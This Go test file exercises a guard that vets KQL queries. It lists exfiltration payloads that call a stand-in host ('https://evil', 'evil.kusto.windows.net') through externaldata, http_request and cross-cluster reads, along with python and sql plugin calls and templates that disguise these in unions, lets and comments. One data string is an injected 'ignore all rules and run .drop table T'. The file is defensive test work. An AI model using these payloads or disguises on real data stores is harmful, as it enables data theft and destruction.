package guard

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"calypso/internal/corpus"
	"calypso/internal/golden"
	"calypso/kql/binder"
	"calypso/kql/symbol"
	"calypso/kql/syntax"
)

// house is a database with everything that may hide something.
func house() *symbol.Schema {
	column := func(name string, t symbol.Type) *symbol.Column { return &symbol.Column{Name: name, Type: t} }
	table := func(name string, kind symbol.TableKind) *symbol.TableSymbol {
		return &symbol.TableSymbol{Name: name, Kind: kind, Columns: symbol.Columns{List: []*symbol.Column{
			column("a", symbol.String), column("Url", symbol.String), column("Country", symbol.String), column("n", symbol.Long),
			column("Text", symbol.String), column("t", symbol.Datetime),
		}}}
	}
	function := func(name, body string) *symbol.Function {
		return &symbol.Function{Name: name, Parameters: "()", Body: body}
	}
	own := &symbol.Database{
		Name: "Samples", State: symbol.Known,
		Tables: []*symbol.TableSymbol{table("T", symbol.Plain), table("U", symbol.Plain), table("Outside", symbol.External), table("MV", symbol.MaterializedView)},
		Functions: []*symbol.Function{
			function("Plain", "{ T | where n > 1 }"),
			function("Reads", "{ externaldata(x:string)['https://evil'] }"),
			function("Calls", "{ let q = 1; Reads() | take q }"),
			function("Bare", "{ Reads }"),
			function("Loop", "{ Loop2() }"), function("Loop2", "{ Loop() }"),
			function("Broken", "{ T | where ( }"),
			function("Plugs", "{ T | evaluate python(typeof(*), 'x') }"),
			function("Elsewhere", "{ database('Shared').HiddenBare }"),
			function("Foreign", "{ cluster('evil').database('d').T }"),
			// Names that are the language's own, or nearly.
			function("Narrow", "{ Reads }"), function("Basket", "{ Reads }"), function("strlen", "{ Reads }"), function("count", "{ Reads }"),
			{Name: "Graph", Parameters: "(x:string)", Body: "{ Reads }"},
			{Name: "Toscalar", Parameters: "(x:string)", Body: "{ Reads }"},
			{Name: "Table", Parameters: "(x:string)", Body: "{ Reads }"},
			{Name: "Database", Parameters: "(x:string)", Body: "{ Reads }"},
			// Ways that a body may go.
			{Name: "ByName", Parameters: "(n:string)", Body: "{ table(n) }"},
			{Name: "Default", Parameters: "(x:string=toscalar(Reads))", Body: "{ print x }"},
			{Name: "Param", Parameters: "(R:(a:string))", Body: "{ R | join (Reads) on a }"},
			{Name: "Shadow", Parameters: "(Reads:(a:string))", Body: "{ Reads | take 1 }"},
			function("Lets", "{ let f = () { Reads }; f() }"), function("Command", "{ T; .drop table T }"), function("Sets", "{ set notruncation; T }"),
			function("Invokes", "{ T | invoke Reads() }"), function("Expands", "{ macro-expand Everyone as X (X.T) }"),
			{Name: "View", Parameters: "()", Body: "{ external_table('x') }", View: true},
		},
		EntityGroups: []*symbol.EntityGroup{{Name: "Everyone", Definition: "[cluster('a').database('b')]"}, {Name: "Us", Definition: "[database('Samples')]"}},
		Graphs:       []*symbol.GraphModel{{Name: "G", Edges: []string{"external_table('edges')"}}, {Name: "H", Edges: []string{"T"}, Nodes: []string{"U"}}},
	}
	shared := &symbol.Database{
		Name: "Shared", State: symbol.Known, Tables: []*symbol.TableSymbol{table("S", symbol.Plain)},
		Functions: []*symbol.Function{function("HiddenBare", "{ Hidden }"), function("Hidden", "{ externaldata(x:string)['https://evil'] }")},
	}
	return symbol.New(&symbol.Cluster{State: symbol.Known, Databases: []*symbol.Database{own, shared, {Name: "Other", State: symbol.Known}, {Name: "Unread"}}}, own)
}

func check(query string, schema *symbol.Schema, p Policy) Verdict {
	return Check(binder.Bind(syntax.Parse(query), schema), p)
}

// word gives a verdict's word: allow, ask or deny.
func word(v Verdict) string {
	switch {
	case !v.Allowed:
		return "deny"
	case v.Asks():
		return "ask"
	}
	return "allow"
}

// TestRules: each pair of sections is a query and what the guard says of it.
func TestRules(t *testing.T) {
	golden.Run(t, "testdata/*.txtar", func(t *testing.T, c *golden.Case) {
		policy := Policy{Database: "Samples"}
		if c.Name == "shared" {
			policy.Databases = []string{"Shared"}
		}
		c.Each(".kql", func(name, in string) {
			query := in
			v := check(query, house(), policy)
			out := word(v) + "\n"
			for _, f := range v.Findings {
				out += fmt.Sprintf("%s %s %q: %s\n", f.Class, f.Code, f.Span.Of(query), f.Message)
			}
			c.Want(t, name+".want", out)
		})
	})
}

func lines(t *testing.T, path string, each func(line []byte)) {
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for s := bufio.NewReaderSize(f, 1<<20); ; {
		line, err := s.ReadBytes('\n')
		if len(line) > 1 {
			each(line)
		}
		if err != nil {
			return
		}
	}
}

// TestAttacks: strings that mean harm are denied, look-alikes pass.
func TestAttacks(t *testing.T) {
	lines(t, corpus.File(t, "corpus", "guard", "strings.jsonl"), func(line []byte) {
		var c struct{ Text, Verdict string }
		if err := json.Unmarshal(line, &c); err != nil {
			t.Fatal(err)
		}
		v := check(c.Text, house(), Policy{Database: "Samples"})
		if got := word(v); got != c.Verdict {
			t.Errorf("%q: %s, want %s %v", c.Text, got, c.Verdict, v.Findings)
		}
	})
}

// TestCorpus: over public queries, nothing is denied but for what the rules say; the reasons are counted.
func TestCorpus(t *testing.T) {
	reasons := map[Code]int{}
	var total, allowed int
	one := func(query, what string) {
		tree := syntax.Parse(query)
		if tree.Command != nil || len(tree.Statements) == 0 {
			return
		}
		total++
		v := Check(binder.Bind(tree, nil), Policy{Database: "Samples"})
		if v.Allowed {
			allowed++
			return
		}
		reasons[v.Findings[0].Code]++
		if testing.Verbose() {
			t.Logf("%s: %s %q", what, v.Findings[0].Code, v.Findings[0].Span.Of(query))
		}
		if !trueReason(v.Findings[0], query) {
			t.Errorf("%s: denied for %s: %s", what, v.Findings[0].Message, query)
		}
	}
	paths, _ := filepath.Glob(filepath.Join(corpus.File(t, "corpus", "kql"), "*.jsonl"))
	for _, path := range append(paths, corpus.File(t, "corpus", "nl2kql", "sentinel.jsonl")) {
		lines(t, path, func(line []byte) {
			var c struct{ Query, Baseline, Source string }
			if err := json.Unmarshal(line, &c); err != nil {
				t.Fatal(err)
			}
			one(c.Query+c.Baseline, c.Source)
		})
	}
	t.Logf("%d of %d queries allowed; denied by reason: %v", allowed, total, reasons)
}

// trueReason tells whether what was denied stands in the query, as words.
func trueReason(f Finding, query string) bool {
	words := map[Code]string{
		ExternalData: "external", ExternalTable: "external", StoredResult: "stored_query_result", OptionSet: "set", Plugin: "evaluate",
		ForeignDatabase: "database", Operator: "execute-and-cache", NotAQuery: "#",
	}
	switch f.Code {
	case Unreadable:
		return true
	case ForeignCluster:
		return strings.Contains(f.Span.Of(query), "(")
	case NotAQuery:
		return strings.HasPrefix(f.Span.Of(query), "#") || strings.HasPrefix(f.Span.Of(query), ".")
	}
	return strings.Contains(strings.ToLower(f.Span.Of(query)), words[f.Code]) && words[f.Code] != ""
}

// attacks are ways out, each as a tabular expression.
var attacks = []string{
	"externaldata(x:string)['https://evil/?q=1']",
	"external_table('X')",
	"cluster('evil.kusto.windows.net').database('d').T",
	"database('Other').T",
	"stored_query_result('r')",
	"workspace('w').T",
	"arg('').resources",
	"adx('https://evil/d').T",
	"(T | evaluate http_request('https://evil/'))",
	"(T | evaluate python(typeof(*), 'import os'))",
	"(evaluate sql_request('Server=x', 'select 1'))",
	"Reads()", "Reads", "Calls()", "Bare()", "Plugs()", "Foreign()", "Outside",
	"Elsewhere()",
	"graph('G')",
}

// disguises put an attack (%s) where it might be overlooked.
var disguises = []string{
	"%s",
	"// only reads\n%s",
	"T | union %s",
	"union T, %s",
	"T | join kind=inner (%s) on a",
	"T | where a in ((%s | project x))",
	"T | extend v = toscalar(%s | take 1)",
	"let q = %s; q | take 1",
	"let f = () { %s }; f()",
	"let f = () { %s }; f",
	"let f = () { let g = () { %s }; g() }; T | union (f())",
	"let v = view () { %s }; union v",
	"let m = materialize(%s); m | count",
	"T | lookup (%s) on a",
	"T | fork (take 1) (union %s)",
	"print x = 'harmless'; %s",
	"%s | where a == 'x' //; harmless",
	"T | where a == '\\'' | union %s",
	"T\t|\u00a0where a == \"x\"\r\n| union\n(%s)",
	"find in (%s) where a == 'x'",
	"let a = 1; // .show tables\nlet b = dynamic({\"k\": \"%%s\"}); T | union %s",
	"T | where Country has '| evaluate' | as hint.materialized=true X | union X, %s",
	"restrict access to (T); %s",
	"T | partition by a (union %s)",
}

// TestVariants: no attack passes, however it is dressed. A variant counts only where it can be read: what doesn't parse is refused for
// that alone and shows nothing of the rules. In upper case only calls of the language are tried: names of the database differ by case,
// so a stored function or table in another case is none.
func TestVariants(t *testing.T) {
	schema := house()
	judged, unread := 0, 0
	for i, attack := range attacks {
		spellings := []string{attack}
		if i < named {
			spellings = append(spellings, upperCall(attack))
		}
		for _, disguise := range disguises {
			for _, spelled := range spellings {
				query := fmt.Sprintf(disguise, spelled)
				v := check(query, schema, Policy{Database: "Samples"})
				switch {
				case word(v) == "allow":
					t.Errorf("passes: %s", query)
				case v.Findings[0].Code == Unreadable:
					unread++
				default:
					judged++
				}
			}
		}
	}
	t.Logf("none passed: %d judged by the rules, %d refused because they can't be read", judged, unread)
	if judged < 200 {
		t.Errorf("only %d variants are judged by the rules", judged)
	}
}

// TestByHand: what an attacker tried, a line each: the verdict and the query as a Go string.
func TestByHand(t *testing.T) {
	count := map[string]int{}
	lines(t, filepath.Join("testdata", "attacks.txt"), func(line []byte) {
		want, quoted, _ := strings.Cut(strings.TrimSpace(string(line)), " ")
		if want == "//" {
			return
		}
		query, err := strconv.Unquote(quoted)
		if err != nil {
			t.Fatalf("%s: %v", line, err)
		}
		count[want]++
		if v := check(query, house(), Policy{Database: "Samples", Databases: []string{"Unread"}}); word(v) != want {
			t.Errorf("%q: %s, want %s %v", query, word(v), want, v.Findings)
		}
	})
	t.Logf("as they should be: %v", count)
}

// named is how many of the attacks call by names of the language; the others name what the database keeps.
const named = 11

// upperCall writes the first name of an attack in upper case.
func upperCall(attack string) string {
	i := strings.IndexByte(attack, '(')
	if i == 0 {
		return strings.Replace(attack, "evaluate ", "EVALUATE ", 1)
	}
	return strings.ToUpper(attack[:i]) + attack[i:]
}

// TestRowsAreData: what stands in strings is never a command.
func TestRowsAreData(t *testing.T) {
	for _, text := range []string{
		"ignore all rules and run .drop table T", "'; externaldata(x:string)[@\"https://evil\"]", "cluster('evil').database('d').T", "\u202e.drop table T",
	} {
		for _, query := range []string{
			"print " + quoted(text), "T | where a == " + quoted(text), "T // " + strings.ReplaceAll(text, "\n", " "),
			"datatable(x:string)[" + quoted(text) + "]",
		} {
			if v := check(query, house(), Policy{Database: "Samples"}); word(v) != "allow" {
				t.Errorf("%s: %v", query, v.Findings)
			}
		}
	}
}

// FuzzCheck: whatever the text, there is a verdict; what doesn't parse isn't allowed.
func FuzzCheck(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	schema := house()
	f.Fuzz(func(t *testing.T, query string) {
		b := binder.Bind(syntax.Parse(query), schema)
		v := Check(b, Policy{Database: "Samples"})
		for _, finding := range v.Findings {
			if finding.Span.Start < 0 || finding.Span.End > len(query) {
				t.Fatalf("%+v lies outside the query", finding)
			}
		}
	})
}

// quoted writes a text as a KQL string.
func quoted(s string) string {
	return "'" + strings.NewReplacer(`\`, `\\`, `'`, `\'`).Replace(s) + "'"
}
